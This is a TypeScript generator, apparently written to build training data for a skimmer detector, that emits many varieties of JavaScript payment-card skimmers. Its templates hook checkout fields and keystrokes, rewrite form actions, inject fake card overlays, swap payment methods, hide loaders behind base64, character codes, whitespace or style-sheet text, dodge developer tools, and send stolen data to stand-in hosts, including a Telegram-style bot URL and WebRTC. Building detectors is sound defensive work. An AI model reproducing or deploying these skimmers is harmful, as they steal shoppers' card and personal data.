// More scripts that steal what visitors type into shops. Training data for a detector: never run, the hosts do not exist,
// and filler replaces anything harmful.
import { CARD_FIELDS, CARD_TEST, skim, leave, onCheckout, skimmer } from './skimmer-templates.ts'
import type { Family, Variation } from './variation.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const event = (v: Variation): string => v.pick(['click', 'mousedown', 'touchend', 'change', 'blur'])

export const SKIMMER_SHAPES: readonly Family[] = [
  skimmer('object with methods', (v) => {
    const [o, a, b] = [v.id(0), v.id(1), v.id(2)]
    return `var ${o}={${a}:{},url:'${v.address()}',init:function(){var s=this;${v.pick([`document.addEventListener('${event(v)}',function(){s.grab()},true)`, `setInterval(function(){s.grab()},${v.number(5, 40) * 100})`, `jQuery('button,.button').on('${event(v)}',function(){s.grab()})`])}},grab:function(){${skim(v, b)}this.${a}.f=${b};this.${a}.h=location.host;if(${v.pick(CARD_TEST)}.test(${b}))this.push()},push:function(){var d=JSON.stringify(this.${a});${leave(v, 'd')}}};${o}.init();`
  }),
  skimmer('class of the newer language', (v) => {
    const name = v.pick(['Collector', 'Tracker', 'Watcher', 'S'])
    return `class ${name}{constructor(u){this.u=u;this.d={};document.addEventListener('${v.pick(['input', 'change', 'focusout'])}',e=>this.add(e.target))}add(t){if(t.value)this.d[t.name||t.id]=t.value;if(Object.values(this.d).some(x=>${v.pick(CARD_TEST)}.test(x)))this.flush()}flush(){const d=${v.pick(['btoa(JSON.stringify(this.d))', 'JSON.stringify(this.d)', 'new URLSearchParams(this.d).toString()'])};${v.pick(['navigator.sendBeacon(this.u,d)', "fetch(this.u,{method:'POST',mode:'no-cors',body:d})", "new Image().src=this.u+'?'+d"])}}}new ${name}('${v.address()}');`
  }),
  skimmer(
    'entries of form data',
    (v) =>
      `document.querySelectorAll('form').forEach(f=>f.addEventListener('submit',()=>{const ${v.id(0)}=${v.pick(['Object.fromEntries(new FormData(f))', '[...new FormData(f).entries()]', 'Array.from(new FormData(f),p=>p.join("="))'])};${onCheckout(v, leave(v, `JSON.stringify(${v.id(0)})`))}}));`,
  ),
  skimmer(
    'action of a form changed',
    (v) =>
      `${onCheckout(v, `var ${v.id(0)}=document.querySelector('${v.pick(['form#payment', 'form.checkout', 'form[action*=payment]', '#co-payment-form'])}');if(${v.id(0)}){var ${v.id(1)}=${v.id(0)}.action;${v.id(0)}.${v.pick([`action='${v.address()}'`, `setAttribute('action','${v.address()}')`])};var i=document.createElement('input');i.type='hidden';i.name='return';i.value=${v.id(1)};${v.id(0)}.appendChild(i)}`)}`,
  ),
  skimmer(
    'copy of a form in a frame',
    (v) =>
      `document.addEventListener('${event(v)}',function(){var ${v.id(0)}=document.createElement('iframe');${v.id(0)}.name='${v.key(5)}';${v.id(0)}.style.display='none';document.body.appendChild(${v.id(0)});var ${v.id(1)}=document.querySelector('form').cloneNode(true);${v.id(1)}.target='${v.key(5)}';${v.id(1)}.action='${v.address()}';document.body.appendChild(${v.id(1)});${v.id(1)}.submit()});`,
  ),
  skimmer('card keys gathered', (v) => {
    const buffer = v.id(0)
    return `var ${buffer}='';document.querySelectorAll('${v.pick(['input[name*=card]', 'input[autocomplete^=cc]', '.cc-number,.cvv', `#${v.pick(CARD_FIELDS).replaceAll(/[[\]]/gu, '')}`])}').forEach(function(e){e.addEventListener('${v.pick(['keyup', 'keydown', 'keypress', 'input'])}',function(k){${buffer}+=${v.pick(['k.key', 'String.fromCharCode(k.which)', 'e.value'])};if(${buffer}.length>${v.number(12, 19)}){${leave(v, buffer)}${buffer}=''}})});`
  }),
  skimmer(
    'fields by a list of pairs',
    (v) =>
      `var ${v.id(0)}=[['number','${v.pick(CARD_FIELDS)}'],['month','${v.pick(['cc_exp_month', 'expirationMonth', 'exp-month'])}'],['year','cc_exp_year'],['code','${v.pick(['cc_cid', 'cvv', 'cvc'])}'],['name','billing:firstname']],${v.id(1)}={};for(var i=0;i<${v.id(0)}.length;i++){var e=document.getElementById(${v.id(0)}[i][1])||document.getElementsByName(${v.id(0)}[i][1])[0];if(e!=null&&e.value!='')${v.id(1)}[${v.id(0)}[i][0]]=e.value}if(${v.id(1)}.number){${leave(v, `JSON.stringify(${v.id(1)})`)}}setTimeout(arguments.callee,${v.number(1, 5)}000);`,
  ),
  skimmer(
    'waits for the payment button',
    (v) =>
      `(function ${v.id(0)}(){var ${v.id(1)}=document.querySelector('${v.pick(['#place_order', 'button.checkout', '[onclick*="save"]', '.btn-proceed-checkout', '#review-buttons-container button'])}');if(!${v.id(1)})return setTimeout(${v.id(0)},${v.number(3, 20) * 100});${v.id(1)}.${v.pick(["addEventListener('click',", "addEventListener('mousedown',"])}function(){${skim(v, v.id(2))}${leave(v, v.id(2))}})})();`,
  ),
  skimmer(
    'own layer for the card',
    (v) =>
      `${onCheckout(v, `var ${v.id(0)}=document.createElement('div');${v.id(0)}.id='${v.key(5)}';${v.id(0)}.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:rgba(0,0,0,.6)';${v.id(0)}.innerHTML='<form><input name="ccn" placeholder="${v.pick(['Card number', '0000 0000 0000 0000', 'Kartennummer', 'Numero de carte'])}"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>Pay</button></form>';document.body.appendChild(${v.id(0)});${v.id(0)}.querySelector('form').onsubmit=function(e){e.preventDefault();var d=[this.ccn.value,this.exp.value,this.cvv.value].join('|');${leave(v, 'd')}${v.id(0)}.remove();localStorage.setItem('paid','1')}`)}`,
  ),
  skimmer(
    'payment methods exchanged',
    (v) =>
      `jQuery(function($){var ${v.id(0)}=setInterval(function(){var p=$('${v.pick(['input[value=paypal_express]', '#payment_method_stripe', '.payment-method-braintree', '#p_method_paypal'])}');if(!p.length)return;clearInterval(${v.id(0)});p.closest('${v.pick(['dt', 'li', 'div'])}').${v.pick(['hide()', 'remove()', "css('display','none')"])};$('#checkout-payment-method-load').append('<input class="cc" id="${v.key(4)}_cc_number"><input class="cc" id="${v.key(4)}_cvv">');$('body').on('${event(v)}','.cc',function(){var d=$('.cc').map(function(){return $(this).val()}).get().join(':');${leave(v, 'd')}})},${v.number(5, 15) * 100})});`,
  ),
  skimmer(
    'names of fields told by words',
    (v) =>
      `var ${v.id(0)}=/card|cc.?num|cvv|cvc|exp|holder|billing|email|phone/i;document.addEventListener('${v.pick(['change', 'focusout', 'input'])}',function(e){var t=e.target;if(!t||!${v.id(0)}.test(t.name+t.id+t.className))return;window.${v.id(1)}=window.${v.id(1)}||{};window.${v.id(1)}[t.name||t.id]=t.value;var ${v.id(2)}=JSON.stringify(window.${v.id(1)});if(${v.id(2)}.length>${v.number(40, 150)}){${leave(v, v.id(2))}}},true);`,
  ),
  skimmer('library with an end of its own', (v) => {
    const inner = `${skim(v, 'q')}${leave(v, 'q')}`
    return `(function(root){function merge(a,b){for(var k in b)a[k]=b[k];return a}function each(l,f){for(var i=0;i<l.length;i++)f(l[i],i)}var opts=merge({delay:${v.number(1, 9) * 100},selector:'.item'},root.opts||{});each(document.querySelectorAll(opts.selector),function(n){n.setAttribute('data-ready','1')});root.ready=function(f){document.readyState!='loading'?f():document.addEventListener('DOMContentLoaded',f)}})(window);/* ${v.key(12)} */${onCheckout(v, `window.ready(function(){document.body.addEventListener('${event(v)}',function(){${inner}})})`)}`
  }),
  skimmer(
    'loader after a check of the tools',
    (v) =>
      `!function(){var a=new Image,b=!1;Object.defineProperty(a,'id',{get:function(){b=!0}});console.log(a);if(b||window.outerHeight-window.innerHeight>${v.number(120, 250)})return;${onCheckout(v, `var s=document.createElement('script');s.src=${v.pick([`atob('${base64(v.address())}')`, `'${v.address()}'`, `String.fromCharCode(${[...v.address()].map((c) => c.charCodeAt(0)).join(',')})`])};document.head.appendChild(s)`)}}();`,
  ),
  skimmer(
    'text of a style sheet run',
    (v) =>
      `var ${v.id(0)}=getComputedStyle(document.querySelector('${v.pick(['body', '.footer', '#logo'])}'),'${v.pick([':after', ':before'])}').content.replace(/["']/g,'');${v.pick([`(new Function(${v.id(0)}))()`, `eval(atob(${v.id(0)}))`, `var s=document.createElement('script');s.src=${v.id(0)};document.head.appendChild(s)`])};`,
  ),
  skimmer(
    'code of spaces and tabs',
    (v) =>
      `fetch('${v.pick(['/media/css/style.css', '/pub/static/logo.svg', v.address()])}').then(r=>r.text()).then(t=>{let b='';for(const c of t.split('\\n').pop())b+=c===' '?'0':c==='\\t'?'1':'';let s='';for(let i=0;i<b.length;i+=8)s+=String.fromCharCode(parseInt(b.substr(i,8),2));${v.pick(['Function(s)()', 'eval(s)', '[]["filter"]["constructor"](s)()'])}});`,
  ),
  skimmer(
    'peer connection',
    (v) =>
      `${onCheckout(v, `var ${v.id(0)}=new RTCPeerConnection();var ${v.id(1)}=${v.id(0)}.createDataChannel('${v.key(4)}');${v.id(1)}.onmessage=function(e){${v.pick(['buf+=e.data;eval(buf)', "var s=document.createElement('script');s.text=e.data;document.body.appendChild(s)", 'new Function(e.data)()'])}};${v.id(0)}.setRemoteDescription({type:'answer',sdp:'v=0\\r\\no=- ${v.number(1e6, 9e6)} 1 IN IP4 203.0.113.${v.number(1, 200)}\\r\\n'})`)}`,
  ),
  skimmer(
    'message to a robot of a messenger',
    (v) =>
      `${onCheckout(v, `document.querySelector('form').addEventListener('submit',function(){${skim(v, v.id(0))}${v.pick(['fetch', 'navigator.sendBeacon', '$.get'])}('https://api.telegram.example/bot${v.number(1e5, 9e5)}:${v.key(20)}/sendMessage?chat_id=-${v.number(1e5, 9e5)}&text='+encodeURIComponent(${v.id(0)}))})`)}`,
  ),
]
